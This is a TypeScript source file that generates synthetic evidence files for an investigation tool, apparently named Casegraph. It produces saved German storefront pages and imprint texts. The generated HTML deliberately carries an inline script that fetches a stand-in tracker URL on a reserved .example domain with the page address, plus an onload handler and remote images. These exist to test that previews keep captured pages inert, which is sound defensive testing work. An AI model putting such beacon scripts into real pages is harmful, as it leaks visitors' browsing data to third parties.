/**
 * Saved storefront pages and an imprint. The HTML is a capture of a hostile page: it carries a `<script>`, an
 * event handler and remote images that must stay inert when the evidence is previewed (every remote address is on
 * a reserved `.example` domain, so even a leak would reach no one).
 */
import type { DemoFile } from '../demoFile';
import { utf8 } from '../csv';
import { multilineAddress } from '../identifiers/address';
import { groupIban } from '../identifiers/iban';
import { phoneSpellings } from '../identifiers/phone';
import { fullName } from '../parties';
import { createRandom, type Random } from '../random';
import { pushTo, type Recorder } from '../recorder';
import { slugify } from '../vocab/people';
import { CAPTURED_AT, type Operation, type Storefront, type World } from '../world';

function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

function imprintLines(front: Storefront, operation: Operation): string[] {
  const { contact, company } = front;
  return [
    'Impressum',
    'Angaben gemäß § 5 DDG',
    company.name,
    ...(contact.address !== undefined ? multilineAddress(contact.address).split('\n') : []),
    `Vertreten durch: ${fullName(company.director)}`,
    `Registernummer: ${company.registrationNumber}`,
    `USt-IdNr.: ${company.vatNumber}`,
    ...(contact.email !== undefined ? [`E-Mail: ${contact.email.key}`] : []),
    ...(contact.phone !== undefined ? [`Telefon: ${phoneSpellings(contact.phone, undefined)[0] ?? ''}`] : []),
    ...(operation.ibans[0] !== undefined
      ? [`Bankverbindung: IBAN ${groupIban(operation.ibans[0].key)}`]
      : []),
    `Web: https://${operation.domain.key}/`,
  ];
}

function page(random: Random, world: World, front: Storefront, operation: Operation): string {
  const listings = operation.products
    .map(
      (product) =>
        `      <li><span class="title">${escapeHtml(product.titles.de)}</span> <span class="price">${random.int(49, 199)},90 €</span></li>`,
    )
    .join('\n');
  return `<!DOCTYPE html>
<html lang="de">
<head>
  <meta charset="utf-8">
  <title>${escapeHtml(front.name)} – Shop</title>
  <link rel="stylesheet" href="https://static.shop-assets.example/css/store.css">
  <script>
    // Captured with the page. It must never run inside Casegraph.
    fetch('https://collect.tracker.example/px?u=' + encodeURIComponent(location.href));
    document.title = 'SCRIPT RAN';
  </script>
</head>
<body onload="document.body.dataset.ran = 'yes'">
  <header>
    <img src="https://cdn.shop-assets.example/banner/${slugify(front.name)}.jpg" alt="${escapeHtml(front.name)}" width="960" height="180">
    <h1>${escapeHtml(front.name)}</h1>
    <p>Verkauft auf ${front.platform} · ${front.feedbackCount} Bewertungen · Saved ${CAPTURED_AT} from ${escapeHtml(front.url.href)}</p>
  </header>
  <main>
    <ul class="listings">
${listings}
    </ul>
    <img src="https://cdn.shop-assets.example/products/${operation.photos[0]?.fileStem ?? 'item'}.jpg" alt="Produktfoto">
  </main>
  <footer>
    <address>
${imprintLines(front, operation)
  .map((line) => `      ${escapeHtml(line)}<br>`)
  .join('\n')}
    </address>
    <a href="https://${operation.domain.key}/">Zum Online-Shop</a> · seller-support: ${escapeHtml(world.hub.email.key)}
  </footer>
</body>
</html>
`;
}

export function writePages(world: World, recorder: Recorder): DemoFile[] {
  const random = createRandom(world.seed, 'file', 'pages');
  const files: DemoFile[] = [];
  const featured = world.operations.slice(0, 2);
  for (const operation of featured) {
    const front = world.storefronts[operation.storefronts[0] ?? -1];
    if (front === undefined) continue;
    // Names are unique per marketplace only; the marketplace keeps two captures apart.
    const plain = `storefront_${slugify(front.name)}.html`;
    const name = files.some((file) => file.name === plain)
      ? `storefront_${slugify(front.name)}_${slugify(front.platform)}.html`
      : plain;
    files.push({
      name,
      bytes: utf8(page(random, world, front, operation)),
      description: `Saved page of the storefront "${front.name}" (${front.platform}), captured ${CAPTURED_AT}. Contains a script and remote images that must stay inert when previewed.`,
    });
    pushTo(recorder.evidence, operation.index, name);
  }
  const first = featured[0];
  const imprintFront =
    first !== undefined ? world.storefronts[first.storefronts[1] ?? first.storefronts[0] ?? -1] : undefined;
  if (first !== undefined && imprintFront !== undefined) {
    const name = `impressum_${slugify(imprintFront.name)}.txt`;
    files.push({
      name,
      bytes: utf8(`${imprintLines(imprintFront, first).join('\n')}\n`),
      description: `The imprint (Impressum) of "${imprintFront.name}" (${imprintFront.platform}) copied as text, captured ${CAPTURED_AT}.`,
    });
    pushTo(recorder.evidence, first.index, name);
  }
  return files;
}
